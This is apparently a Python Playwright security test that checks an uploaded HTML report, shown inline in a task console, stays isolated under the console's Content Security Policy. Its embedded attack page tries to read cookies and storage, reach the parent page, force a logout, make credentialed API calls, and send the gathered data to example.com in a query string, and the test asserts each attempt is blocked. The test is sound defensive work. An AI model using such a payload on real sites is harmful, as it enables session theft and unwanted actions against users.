"""Attack 59: a page that a task has made, shown within the console of who made the task.

What frames it here is no page of the console but has its policy: what holds here needs nothing of the console's own.
"""

import pytest
from playwright.sync_api import expect

from beray.server.console_files import POLICY
from tests.support.console import Console

# What the frame tries, one answer each; "kept" where it may not.
ATTACK = """<!doctype html><title>theirs</title><p id="shown">shown</p><script>
const told = {}
const attempt = (name, act) => { try { told[name] = act() } catch (error) { told[name] = "kept" } }
const ask = async (name, path, options) => {
  try { told[name] = (await fetch(new URL(path, location), { credentials: "include", ...options })).type }
  catch (error) { told[name] = "kept" }
}
const form = document.createElement("form")
form.method = "POST"
form.action = "/api/v1/auth/logout"
document.body.append(form)
const image = new Image()
const script = document.createElement("script")
const load = (element) => new Promise((resolve) => {
  element.onload = () => resolve("loaded")
  element.onerror = () => resolve("kept")
  element.src = "/api/v1/users/me"
  document.body.append(element)
})
const attack = async () => {
  attempt("script", () => "runs")
  attempt("origin", () => self.origin)
  attempt("cookie", () => document.cookie)
  attempt("storage", () => localStorage.length)
  attempt("page", () => parent.document.title)
  attempt("address", () => top.location.href)
  attempt("window", () => open("/") ?? "kept")
  attempt("away", () => { top.location = "/health"; return "went" })
  attempt("form", () => { form.submit() ; return "sent, and held back" })
  await ask("read", "/api/v1/users/me", {})
  await ask("write", "/api/v1/tasks", { method: "POST", body: '{"goal": "theirs"}', mode: "no-cors" })
  await ask("elsewhere", "https://example.com/", { mode: "no-cors" })
  attempt("beacon", () => { navigator.sendBeacon("/api/v1/auth/logout"); return "sent, and held back" })
  told.image = await load(image)
  told.loaded = await load(script)
  parent.postMessage(told, "*")
  location = `https://example.com/?${encodeURIComponent(JSON.stringify(told))}`
}
attack()
</script>"""
HELD = {
    "script": "runs",
    "origin": "null",
    **dict.fromkeys(("cookie", "storage", "page", "address", "window", "away", "read", "write", "elsewhere"), "kept"),
    **dict.fromkeys(("form", "beacon"), "sent, and held back"),
    **dict.fromkeys(("image", "loaded"), "kept"),
}
FRAMING = '<!doctype html><title>ours</title><link rel="icon" href="data:,"><iframe {}></iframe>'
SHOW = """path => new Promise(resolve => {
    addEventListener("message", message => resolve(message.data), { once: true })
    document.querySelector("iframe").src = path
})"""


@pytest.mark.parametrize("attributes", ['sandbox="allow-scripts"', ""], ids=["sandboxed", "plain"])
def test_attack_59_shown_page_reaches_nothing_around_it(console: Console, attributes: str) -> None:
    """Its own policy is enough, whether or not the frame says `sandbox` too."""
    person = console.register()
    client = console.client(person)
    task_id = client.create_task("Stay", hold=True)["id"]
    client.upload_file(task_id, "report.html", ATTACK.encode())
    page = console.logged_in_page(person)
    headers = {"content-type": "text/html", "content-security-policy": POLICY}
    page.route("**/framing", lambda route: route.fulfill(body=FRAMING.format(attributes), headers=headers))
    console.open("/framing")

    told = page.evaluate(SHOW, f"/api/v1/tasks/{task_id}/files/content?path=report.html&inline=true")

    assert told == HELD
    expect(page.frame_locator("iframe").locator("#shown")).to_have_count(0)  # it has tried to leave with what it holds
    assert not [frame for frame in page.frames if "example.com" in frame.url]
    assert page.evaluate("fetch('/api/v1/users/me').then(answer => answer.status)") == 200
    assert [task["id"] for task in client.list_tasks()] == [task_id]
    console.expects("Content Security Policy", "sandboxed")
